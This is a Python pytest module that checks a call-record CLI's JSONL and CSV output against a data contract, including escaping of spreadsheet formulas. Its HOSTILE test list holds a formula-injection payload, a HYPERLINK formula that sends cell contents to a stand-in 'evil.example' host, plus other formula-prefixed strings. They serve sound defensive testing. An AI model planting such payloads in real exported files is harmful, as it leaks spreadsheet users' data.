"""Contract v2 properties that hold for every provider's `cdrtui calls --format jsonl|csv` output
(docs/design.md §2.1/§2.2, issue 9). Each is checked on the session simulators' full histories; the
expectations come from the contract's text, never from cdrtui's own code.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
from datetime import datetime
from typing import Any
from unittest import mock

import pytest

from cdrtui import cli
from cdrtui.connect import spec_of
from cdrtui.providers.registry import BUILTIN, provider_ids
from cdrtui.simulators.core import SimServer
from cdrtui.simulators.registry import SIMULATORS
from cdrtui.simulators.unpod import UnpodSim
from support import TEST_CALLS

# The contract suite runs over every registered provider (a new one gets it by registering; it needs
# a simulator to run against, which the test below demands of every registered built-in).
PROVIDERS = [pid for pid in provider_ids() if pid in SIMULATORS]


def test_every_registered_builtin_provider_runs_the_contract_suite() -> None:
    assert set(BUILTIN) <= set(PROVIDERS) and set(PROVIDERS) <= set(TEST_CALLS)


EVER = "2000-01-01"
# docs/design.md §2.1, contract v2: exactly these keys, in this order.
CONTRACT_KEYS = [
    "provider", "id", "started_at", "answered_at", "ended_at", "direction", "status", "from", "to", "duration_s",
    "total_s", "billable_s", "cost", "currency", "recording_urls", "end_reason", "provider_status", "from_name",
    "to_name",
]  # fmt: skip
# Providers whose API states a cost without a currency (docs/design.md §2.1 "others null unless the profile
# sets one"): the JSON keeps `currency` null and a profile currency fills it (tested below).
NO_API_CURRENCY = {"voipstudio": "VoIPstudio's charge carries no currency", "portsip": "PortSIP gives none"}


def run(env: dict[str, str], *args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with mock.patch.dict(os.environ, env), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(["calls", *args])
    return code, out.getvalue(), err.getvalue()


_LISTINGS: dict[tuple[str, str], str] = {}


def listing(sims, provider: str, fmt: str = "jsonl") -> str:
    """The full history of a session simulator, fetched once per format."""
    if (provider, fmt) not in _LISTINGS:
        code, out, err = run(sims[provider].env(), provider, "--format", fmt, "--since", EVER)
        assert code == 0, err
        _LISTINGS[(provider, fmt)] = out
    return _LISTINGS[(provider, fmt)]


def rows_of(sims, provider: str) -> list[dict[str, Any]]:
    rows = [json.loads(line) for line in listing(sims, provider).splitlines()]
    assert len(rows) == TEST_CALLS[provider]
    return rows


def instant(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def broken(rows: list[dict[str, Any]], check) -> list[str]:
    """Ids (with the offending values) of the rows failing `check`, for a readable failure."""
    bad = [r for r in rows if not check(r)]
    fields = ("status", "provider_status", "answered_at", "duration_s", "total_s", "cost", "currency")
    return [f"{r['id']}: " + " ".join(f"{k}={r[k]}" for k in fields) for r in bad[:5]]


# --- one test per property and provider ----------------------------------------------------------


@pytest.mark.parametrize("provider", PROVIDERS)
def test_keys_are_exactly_the_contract(provider, sims) -> None:
    for row in rows_of(sims, provider):
        assert list(row) == CONTRACT_KEYS
        assert row["provider"] == provider


@pytest.mark.parametrize("provider", PROVIDERS)
def test_answered_iff_answered_at(provider, sims) -> None:
    rows = [r for r in rows_of(sims, provider) if r["status"] != "in_progress"]
    assert not broken(rows, lambda r: (r["status"] == "answered") == (r["answered_at"] is not None))


@pytest.mark.parametrize("provider", PROVIDERS)
def test_not_answered_talked_zero_seconds(provider, sims) -> None:
    """Talk time is 0 for a call never answered; a live call that was answered has talked so far."""

    def talked_only_if_answered(r: dict[str, Any]) -> bool:
        if r["status"] == "answered" or (r["status"] == "in_progress" and r["answered_at"] is not None):
            return True
        return r["duration_s"] == 0

    assert not broken(rows_of(sims, provider), talked_only_if_answered)


@pytest.mark.parametrize("provider", PROVIDERS)
def test_total_is_end_minus_start_and_covers_talk(provider, sims) -> None:
    rows = rows_of(sims, provider)
    for r in rows:
        if r["ended_at"] is None or r["started_at"] is None:
            assert r["total_s"] is None, r
        else:
            assert r["total_s"] == int((instant(r["ended_at"]) - instant(r["started_at"])).total_seconds()), r
    assert not broken(rows, lambda r: r["total_s"] is None or r["total_s"] >= r["duration_s"])
    assert any(r["total_s"] is not None for r in rows)


@pytest.mark.parametrize("provider", PROVIDERS)
def test_a_cost_has_a_currency_or_an_explanation(provider, sims) -> None:
    rows = rows_of(sims, provider)
    if provider in NO_API_CURRENCY:
        return  # explained; the profile currency test below proves it can be filled
    assert not broken(rows, lambda r: r["cost"] is None or r["currency"] is not None)


@pytest.mark.parametrize("provider", PROVIDERS)
def test_a_profile_currency_fills_every_missing_one(provider, sims, tmp_path) -> None:
    """A profile's `currency` (the documented way to say what a provider won't) reaches every call
    that has a cost but no currency of its own."""
    running = sims[provider]
    spec = spec_of(provider)
    creds = running.credentials()
    env = {"CDRTUI_HOME": os.environ["CDRTUI_HOME"]}
    lines = [f'[profiles.p]\nprovider = "{provider}"\nbase_url = "{running.base_url}"\ncurrency = "XTS"\n']
    lines.append('secret_store = "env"\n')
    for field in spec.fields:
        if field.name not in creds:
            continue
        if field.secret and field.env:
            env[field.env] = creds[field.name]
        else:
            lines.append(f"{field.name} = {json.dumps(creds[field.name])}\n")
    config = tmp_path / "home" / "config"
    config.mkdir(parents=True, exist_ok=True)
    (config / "config.toml").write_text("".join(lines), encoding="utf-8")
    code, out, err = run(env, provider, "--profile", "p", "--format", "jsonl", "--since", EVER)
    assert code == 0, err
    rows = [json.loads(line) for line in out.splitlines()]
    assert len(rows) == TEST_CALLS[provider]
    assert not broken(rows, lambda r: r["cost"] is None or r["currency"] is not None)
    if provider in NO_API_CURRENCY:
        assert {r["currency"] for r in rows if r["cost"] is not None} <= {"XTS"}


def _order_key(row: dict[str, Any]) -> tuple:
    ident = row["id"]
    return (row["started_at"] or "", (1, int(ident), "") if ident.isdigit() else (0, 0, ident))


@pytest.mark.parametrize("provider", PROVIDERS)
def test_newest_first_ids_tie_broken_numerically(provider, sims) -> None:
    keys = [_order_key(r) for r in rows_of(sims, provider)]
    assert keys == sorted(keys, reverse=True)


# --- CSV round trip ------------------------------------------------------------------------------

FORMULA = ("=", "+", "-", "@", "\t", "\r")


def expected_cell(value: Any) -> str:
    """docs/design.md §2.1 for CSV: the JSONL value as text, recording_urls joined with a space, null empty,
    and a text a spreadsheet would run as a formula behind an apostrophe (a plain signed number is data)."""
    if value is None:
        return ""
    if isinstance(value, list):
        value = " ".join(value)
    if isinstance(value, bool):
        raise AssertionError("no boolean in the contract")
    if isinstance(value, (int, float)):
        return repr(value)
    if value.startswith(FORMULA) and not re.fullmatch(r"[+-]?\d+", value):
        return "'" + value
    return value


def assert_csv_matches_jsonl(csv_text: str, jsonl_text: str) -> int:
    table = list(csv.reader(io.StringIO(csv_text, newline="")))
    rows = [json.loads(line) for line in jsonl_text.splitlines()]
    assert table[0] == CONTRACT_KEYS
    assert len(table) - 1 == len(rows)
    for cells, row in zip(table[1:], rows, strict=True):
        assert cells == [expected_cell(row[k]) for k in CONTRACT_KEYS], row["id"]
    return len(rows)


@pytest.mark.parametrize("provider", PROVIDERS)
def test_csv_round_trips_to_the_jsonl(provider, sims) -> None:
    assert assert_csv_matches_jsonl(listing(sims, provider, "csv"), listing(sims, provider)) == TEST_CALLS[provider]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    '+1-555, "quoted"\nsecond line',
    "-2+3,\r\nthird",
    "@SUM(A1:A9)",
    '"only quotes"',
    "\ttabbed, then\n\nblank lines",
    "+15551234567",  # a plain number: stays as it is
    "a,b;c|d 'e' \"f\"",
]


def test_hostile_text_round_trips_through_csv() -> None:
    """Commas, quotes, newlines and formula characters in every text field of a provider record."""
    records = []
    for n, text in enumerate(HOSTILE):
        records.append(
            {
                "id": f"{text}#{n}",
                "source_number": text,
                "destination_number": text[::-1],
                "call_type": "outbound" if n % 2 else "inbound",
                "call_status": text,
                "creation_time": f"2026-02-07T05:{50 - n:02d}:00Z",
                "start_time": f"2026-02-07T05:{50 - n:02d}:05Z",
                "end_time": f"2026-02-07T05:{50 - n:02d}:45Z",
                "call_duration": 40,
                "end_reason": text,
                "agent": {"id": n, "name": text},
            }
        )
    sim = UnpodSim(records=records)
    with SimServer(sim) as server:
        env = sim.env(server.origin)
        code, out_csv, err = run(env, "unpod", "--format", "csv")
        assert code == 0, err
        code, out_jsonl, err = run(env, "unpod", "--format", "jsonl")
        assert code == 0, err
    assert assert_csv_matches_jsonl(out_csv, out_jsonl) == len(HOSTILE)
    rows = [json.loads(line) for line in out_jsonl.splitlines()]
    # Every text field carried the hostile text (trimmed, as the contract says), newest first.
    rows = [json.loads(line) for line in out_jsonl.splitlines()]
    trimmed = [t.strip() for t in HOSTILE]
    assert [r["id"] for r in rows] == [f"{t}#{n}".strip() for n, t in enumerate(HOSTILE)]
    for key in ("from", "provider_status", "end_reason"):
        assert [r[key] for r in rows] == trimmed
    assert [r["to"] for r in rows] == [t[::-1].strip() for t in HOSTILE]
    assert [r["from_name"] or r["to_name"] for r in rows] == trimmed
